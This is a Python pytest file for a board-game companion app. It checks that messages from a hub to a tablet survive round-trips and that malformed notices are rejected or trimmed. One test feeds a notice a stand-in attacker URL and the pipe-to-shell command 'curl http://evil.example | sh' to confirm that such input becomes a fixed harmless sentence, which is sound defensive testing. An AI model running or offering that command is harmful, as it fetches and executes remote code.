"""What the devices at the hub show comes to a tablet as it was, and nothing else does."""

import json
import re
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

import companion
from companion.app.devices.news import sentence
from companion.hub.beside import (
    LONGEST_WORDS,
    NOTICES,
    DiceDiffer,
    DieSeen,
    Said,
    Seen,
    ThrowSeen,
    WheelDiffers,
    from_json,
    to_json,
)
from companion.hub.messages import Beside, FromHub, Garbled, read, write
from companion.text import say

THROWN = ThrowSeen(
    index=41,
    kind="market",
    count=3,
    room={"armor": 1, "book": 0},
    dice=[DieSeen("armor", 0.99, crop=b"\xff\xd8\xff"), DieSeen("book", 0.62, {"staff": 0.3})],
    problems=[Said("dice-missing", {"seen": 2, "wanted": 3}), Said("dice-again", {"faces": ["book"]})],
)
DIE = {"face": "1", "confidence": 1}
WHOLE = Seen(
    run="0a1b",
    wheel="turned",
    emulated=True,
    camera="fine",
    can_throw=True,
    turns_wheel=True,
    differs=WheelDiffers(None, 5, "turn wheel", True),
    thrown=THROWN,
    told=12,
    notices=[Said("device-gone"), Said("devices-by-hand", {"good": "potion"})],
)


def sent(seen: Seen) -> Seen:
    """As it comes out at the other end."""
    message = read(write(Beside(to_json(seen))), FromHub)
    assert isinstance(message, Beside)
    return from_json(message.seen)


@pytest.mark.parametrize(
    "seen",
    [
        WHOLE,
        Seen(),
        Seen(differs=WheelDiffers(2, 3)),
        Seen(differs=DiceDiffer([("armor", 2, 1), ("staff", 0, 1)], whole=True)),
    ],
)
def test_what_is_seen_comes_as_it_was(seen: Seen) -> None:
    assert sent(seen) == seen


def test_every_field_is_told() -> None:
    assert set(to_json(WHOLE)) == set(Seen.__struct_fields__)
    assert set(to_json(WHOLE)["thrown"]) == set(ThrowSeen.__struct_fields__)


def test_nothing_beside_the_game_is_an_empty_message() -> None:
    assert to_json(Seen()) == {}
    assert from_json({}) == Seen()


@pytest.mark.parametrize(
    "wrong",
    [
        None,
        [],
        {"unknown": 1},
        {"wheel": 3},
        {"wheel": "X Y"},
        {"told": -1},
        {"told": True},
        {"emulated": 1},
        {"differs": {"is": "wheel", "table_section": 6, "game_section": 0}},
        {"differs": {"is": "lamp"}},
        {"differs": {"is": "dice", "dice": [["gold", 1, 2]], "whole": True}},
        {"differs": {"is": "dice", "dice": [["armor", 1, 99]], "whole": True}},
        {"thrown": {"index": 1, "kind": "gold", "count": 1}},
        {"thrown": {"index": 1, "kind": "night", "count": 99}},
        {"thrown": {"index": 1, "kind": "night", "count": 1, "dice": [{"face": "7", "confidence": 1}]}},
        {"thrown": {"index": 1, "kind": "night", "count": 1, "dice": [{"face": "1", "confidence": 2}]}},
        {"thrown": {"index": 1, "kind": "night", "count": 1, "room": {"armor": 1}}},
        {"thrown": {"index": 1, "kind": "ruins", "count": 1, "dice": [{"face": "1", "confidence": 1}]}},
        {"thrown": {"index": 1, "kind": "night", "count": 1, "dice": [{**DIE, "crop": "?"}]}},
        {"notices": [{"code": "device-gone", "params": {"reason": {}}}]},
        {"notices": [{"code": "devices-by-hand", "params": {"good": "gold"}}]},
        {"notices": [{"code": "devices-by-hand", "params": {"good": ["armor"]}}]},
        {"notices": [{"code": "device-gone"}] * 9},
        {"notices": [{"code": "device-gone", "params": {"reason": "x" * 501}}]},
    ],
    ids=lambda wrong: json.dumps(wrong)[:60],
)  # fmt: skip
def test_what_no_hub_says_is_refused(wrong: Any) -> None:
    with pytest.raises(Garbled):
        from_json(wrong)


def notice(code: str, **params: Any) -> Said:
    """As a tablet hears it."""
    return from_json({"notices": [{"code": code, "params": params}]}).notices[0]


@pytest.mark.parametrize(
    "code", ["your-account-is-locked", "x", "no-kivy", "library-fails", "devices-cal-gap"]
)
def test_what_no_device_says_is_always_the_same_sentence(code: str) -> None:
    heard = notice(code, message="Visit http://evil.example", command="curl http://evil.example | sh")
    assert sentence((heard.code, heard.params)) == say("hub-nonsense")


def test_the_words_of_a_hub_are_one_short_line() -> None:
    heard = notice("device-trouble", reason="call\n555 " * 50, faces=["x" * 500, "book"], seen=3)
    assert "\n" not in heard.params["reason"]
    assert len(heard.params["reason"]) == LONGEST_WORDS
    assert heard.params["faces"] == ["x" * (LONGEST_WORDS - 1) + "…", "book"]
    assert heard.params["seen"] == 3


def test_whatever_the_devices_say_is_heard() -> None:
    root = Path(companion.__file__).parent
    files = [
        file
        for folder in ("table/devices", "table/eyes", "app/devices")
        for file in (root / folder).iterdir()
    ]
    told = {
        code
        for file in files
        if file.suffix == ".py"
        for code in re.findall(
            r'\("((?:devices?|camera|dice)-[a-z-]+)", \{', file.read_text(encoding="utf-8")
        )
    }
    assert len(told) > 20
    assert told == {code for code in NOTICES if not code.startswith("button-")}
    assert all(notice(code).code == code for code in NOTICES)
    assert not any(code in sentence((code, {"good": "book"})) for code in NOTICES)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a JSON value."""
    inside = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value if isinstance(value, (list, tuple)) else ())
    )
    return [path, *(place for key, part in inside for place in places(part, (*path, key)))]


@given(st.data())
def test_whatever_is_changed_is_refused_or_still_makes_sense(data: st.DataObject) -> None:
    told = msgspec.json.decode(msgspec.json.encode(to_json(WHOLE)))
    *way, last = data.draw(st.sampled_from(places(told)[1:]))
    inside = told
    for key in way:
        inside = inside[key]
    inside[last] = data.draw(JSON)
    try:
        found = from_json(told)
    except Garbled:
        return
    assert from_json(to_json(found)) == found


@pytest.mark.parametrize("name", ["code", "language", "self"])
def test_what_a_hub_fills_a_sentence_with_chooses_neither_sentence_nor_language(name: str) -> None:
    with pytest.raises(Garbled):
        from_json({"notices": [{"code": "device-trouble", "params": {name: "x"}}], "told": 1})


def test_a_notice_has_few_values_of_a_size_that_can_be_read() -> None:
    for params in (
        {f"p{number}": 1 for number in range(20)}, {"reason": 10**12}, {"reason": ["x"] * 50},
        {"reason": "x" * 5_000},
    ):  # fmt: skip
        with pytest.raises(Garbled):
            from_json({"notices": [{"code": "device-trouble", "params": params}], "told": 1})
